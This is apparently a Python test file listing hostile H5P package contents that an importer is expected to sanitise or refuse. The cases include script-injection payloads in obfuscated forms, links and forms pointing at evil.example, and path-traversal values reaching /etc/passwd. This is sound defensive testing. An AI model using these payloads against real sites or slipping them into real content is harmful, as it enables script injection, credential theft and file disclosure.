"""Content that would run something, or point outside."""

from __future__ import annotations

from typing import Any

from courses.h5p.package import Rule
from tests.courses.h5p.hostile.case import Case, harmless, refused
from tests.courses.h5p.package.building import PNG, SEMANTICS, STORED, Raw, as_json, entries, files, library, zipped


def content(of: dict[str, Any], *more: Raw) -> Case:
    return harmless(lambda: zipped([*entries(files(of)), *more]))


def body(html: str) -> Case:
    return content({"body": html})


def picture(**of: Any) -> Case:
    return content({"title": "x", "picture": {"path": "a.png", **of}}, Raw("content/a.png", PNG, STORED))


def whole(of: dict[str, Any]) -> bytes:
    others = {name: data for name, data in files().items() if name != "content/content.json"}
    return zipped([*entries(others), Raw("content/content.json", as_json(of), STORED)])


def within_itself(levels: int) -> bytes:
    part: dict[str, Any] = {"title": "x"}
    for _ in range(levels):
        part = {"part": {"library": "H5P.Part 1.2", "params": part}}
    own = [{"name": "title", "type": "text"}, {"name": "part", "type": "library", "options": ["H5P.Part 1.2"]}]
    return zipped(entries(files(part) | library("H5P.Part", "1.2.0", semantics=own)))


ADDRESS = [*SEMANTICS, {"name": "url", "type": "text"}, {"name": "linkHref", "type": "text"}]

CASES = {
    "a script": body("<script>alert(1)</script>hi"),
    "a script spelled oddly": body("<ScRiPt\t/x>alert(1)</sCrIpT >hi"),
    "a script in a script": body("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    "a script that is never closed": body("hi<script>alert(1)"),
    "a script within a comment": body("<!--><script>alert(1)</script>-->"),
    "a script by way of mathematics": body(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "a script by way of a template": body(
        "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>"
    ),
    "an event": body(
        '<a href="#" onclick="alert(1)" ONMOUSEOVER=alert(1)>hi</a><strong onfocus=alert(1) autofocus>x</strong>'
    ),
    "an event behind a slash": body("<strong/onclick=alert(1)>hi</strong><a/href=#/onload=alert(1)>x"),
    "an address that runs": body('<a href="javascript:alert(1)">hi</a>'),
    "an address that runs spelled oddly": body(
        '<a href=" &#106;ava&#x09;script&colon;alert(1)">a</a>'
        '<a href="JaVa\nScRiPt:alert(1)">b</a><a href="\x01javascript:x">c</a>'
    ),
    "an address with data": body('<a href="data:text/html,<script>alert(1)</script>">hi</a>'),
    "an address with VBScript": body('<a href="vbscript:msgbox(1)">hi</a>'),
    "a frame": body('<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.html"></object><embed src=x>'),
    "a drawing": body('<svg onload="alert(1)"><script>alert(1)</script></svg>'),
    "a form": body('<form action="https://evil.example"><input name=password><button formaction="javascript:x">go'),
    "a page's own head": body(
        '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">'
        "<link rel=stylesheet href=//evil.example>"
    ),
    "a style that reaches out": body(
        '<strong style="background:url(https://evil.example/);color:red;position:fixed;behavior:url(x)">hi</strong>'
    ),
    "a script in plain text": content({"title": "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"}),
    "addresses in fields": harmless(
        lambda: zipped(
            entries(
                files({"url": "javascript:alert(1)", "linkHref": "  JAVA\tSCRIPT:alert(1)"})
                | library(semantics=ADDRESS)
            )
        )
    ),
    "a path out of the package": picture(path="../../../../etc/passwd"),
    "a path into a library": picture(path="../H5P.Lesson-1.0/script.js"),
    "a path that runs": picture(path="javascript:alert(1)"),
    "a path with a page": picture(path="data:text/html,<script>alert(1)</script>"),
    "a path that breaks out": picture(path='https://example.org/"><script>alert(1)</script>'),
    "a kind that lies": picture(mime='text/html"><script>alert(1)</script>'),
    "a script in what is said of a file": picture(
        alt="<script>alert(1)</script>",
        copyright={"author": "<script>alert(1)</script>", "source": "javascript:alert(1)", "evil": 1},
        metadata={"title": "<img src=x onerror=alert(1)>", "authors": [{"name": "<script>"}]},
    ),
    "a library that the field does not take": content(
        {"part": {"library": "H5P.Evil 1.0", "params": {"x": "<script>"}}}
    ),
    "a library with a path": content({"part": {"library": "../../H5P.Part 1.2", "params": {}}}),
    "an identifier that is markup": content({"title": "x", "subContentId": "<script>alert(1)</script>"}),
    "values of every wrong kind": content({"title": {"a": 1}, "body": [1], "picture": "a.png", "part": 7}),
    "a content within itself": harmless(lambda: within_itself(18)),
    "markup without end": refused(
        Rule.TOO_MUCH_MARKUP, "content/content.json", lambda: whole({"body": "<strong>" * 60_000})
    ),
    "a text of five megabytes": harmless(
        lambda: whole({"body": "<p>" + "x<" * 20_000 + "y" * 4_000_000, "title": "\"'" * 100_000})
    ),
}
